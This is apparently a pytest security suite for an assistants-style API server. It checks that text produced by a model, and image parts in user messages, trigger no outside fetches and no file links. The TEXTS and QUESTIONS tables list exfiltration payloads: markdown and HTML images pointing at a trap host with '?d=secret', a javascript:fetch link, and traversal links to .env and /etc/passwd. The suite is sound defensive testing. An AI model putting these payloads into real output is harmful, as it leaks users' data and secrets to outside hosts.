"""Texts of a model and messages that try to fetch something or to reach a file."""

from __future__ import annotations

import json
from typing import Any

import pytest
from support.victim import CANARY, FILE_CANARY, Victim

pytestmark = pytest.mark.slow

URL = "http://TRAP/x.png"
TEXTS: dict[str, str] = {
    "an image": f"![x]({URL})",
    "an image with data": f"![x]({URL}?d=secret)",
    "an image by reference": f"![x][1]\n\n[1]: {URL}",
    "a collapsed reference": f"![1][]\n\n[1]: {URL}",
    "an image in a link": f"[![x]({URL})]({URL})",
    "HTML": f'<img src="{URL}">',
    "HTML without quotes": f"<img src={URL}>",
    "a source set": f'<img srcset="{URL} 2x">',
    "a picture": f'<picture><source srcset="{URL}"><img></picture>',
    "an SVG": f'<svg><image href="{URL}"/></svg>',
    "a style": f'<div style="background:url({URL})">x</div>',
    "a style sheet": f'<link rel="stylesheet" href="{URL}">',
    "a frame": f'<iframe src="{URL}"></iframe>',
    "an object": f'<object data="{URL}"></object>',
    "a video": f'<video poster="{URL}" src="{URL}"></video>',
    "a script": f'<script src="{URL}"></script>',
    "a refresh": f'<meta http-equiv="refresh" content="0;url={URL}">',
    "a link": f"[x]({URL})",
    "a bare link": URL,
    "angles": f"<{URL}>",
    "a sandbox link": "[x](sandbox:/mnt/data/../../.env)",
    "a sandbox link, encoded": "[x](sandbox:/mnt/data/%2e%2e/%2e%2e/.env)",
    "a sandbox link to the root": "[x](sandbox:/etc/passwd)",
    "a file link": "[x](file:///etc/passwd)",
    "a relative link": "[x](../../../.env)",
    "a script link": "[x](javascript:fetch('http://TRAP'))",
    "a data link": "[x](data:text/html,<script>1</script>)",
    "a citation": "see 【4:0†.env】 and 【0:0†../../etc/passwd】",
    "a directive": "```{image} http://TRAP/x.png\n```",
    "TeX": r"$\includegraphics{http://TRAP/x.png}$ \href{http://TRAP}{x}",
}


@pytest.mark.parametrize("name", TEXTS)
def test_what_a_model_says_fetches_nothing_and_links_to_no_file(victim: Victim, name: str) -> None:
    text = TEXTS[name].replace("http://TRAP", victim.trap.url)
    run = victim.run(victim.thread(), [[text]])
    assert run["status"] == "completed"
    path = f"/threads/{run['thread_id']}"
    said = victim.api("GET", f"{path}/messages?run_id={run['id']}").json["data"][0]
    annotations = said["content"][0]["text"]["annotations"]
    assert annotations == []
    for kind in ("markdown", "notebook"):
        assert victim.api("GET", f"{path}/export?format={kind}").status == 200


QUESTIONS: dict[str, Any] = {
    "an image by address": {"type": "image_url", "image_url": {"url": "http://TRAP/x.png"}},
    "with detail": {
        "type": "image_url",
        "image_url": {"url": "http://TRAP/x.png", "detail": "high"},
    },
    "in text": {"type": "text", "text": "look at http://TRAP/x.png ![x](http://TRAP/y.png)"},
    "this server": {"type": "image_url", "image_url": {"url": "http://TRAP/assistants/v1/models"}},
    "data that leads on": {
        "type": "image_url",
        "image_url": {"url": "data:image/svg+xml,<svg><image href='http://TRAP/x'/></svg>"},
    },
}


@pytest.mark.parametrize("name", QUESTIONS)
def test_what_a_message_shows_is_not_fetched(victim: Victim, name: str) -> None:
    part = json.loads(json.dumps(QUESTIONS[name]).replace("http://TRAP", victim.trap.url))
    thread_id = victim.thread()
    victim.api("POST", f"/threads/{thread_id}/messages", {"role": "user", "content": [part]})
    victim.run(thread_id, [["hello"]])


def test_no_secret_is_on_the_disk_afterwards(victim: Victim) -> None:
    """The last of all files: all that the server wrote down."""
    checked = 0
    for path in [*victim.server.data_dir.rglob("*"), victim.server.home / "server.log"]:
        if path.is_file():
            data = path.read_bytes()
            checked += 1
            assert CANARY.encode() not in data and FILE_CANARY.encode() not in data, path
    assert checked > 3
